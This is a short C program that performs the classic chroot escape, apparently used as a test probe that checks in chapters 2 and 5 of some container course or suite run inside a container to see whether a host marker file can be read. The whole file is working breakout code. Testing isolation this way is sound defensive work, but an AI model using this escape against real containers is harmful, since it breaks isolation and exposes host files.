/* The classic chroot escape, run by the chapter 2 and 5 checks inside the container.
 *
 * chroot(2) changes how "/" resolves but leaves the current directory alone.
 * Make a fresh chroot *below* our cwd: now cwd is outside the root, and ".."
 * is never clamped on the way up. Climb, and chroot to whatever is at the top.
 * Prints the file named by argv[1] (a marker the check left on the host) if it
 * can be read from the top; exits 3 if the escape found no such file.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char dir[64];
    snprintf(dir, sizeof dir, ".escape-%d", (int)getpid());
    if (argc != 2 || mkdir(dir, 0700) != 0 || chroot(dir) != 0) {
        perror("breakout: setup");
        return 2;
    }
    rmdir(dir); /* cwd is still outside the new root: the relative path works */
    for (int i = 0; i < 256; i++)
        chdir("..");
    chroot(".");
    char buf[256];
    int fd = open(argv[1], O_RDONLY);
    if (fd < 0)
        return 3;
    ssize_t n = read(fd, buf, sizeof buf);
    if (n > 0)
        fwrite(buf, 1, (size_t)n, stdout);
    return 0;
}
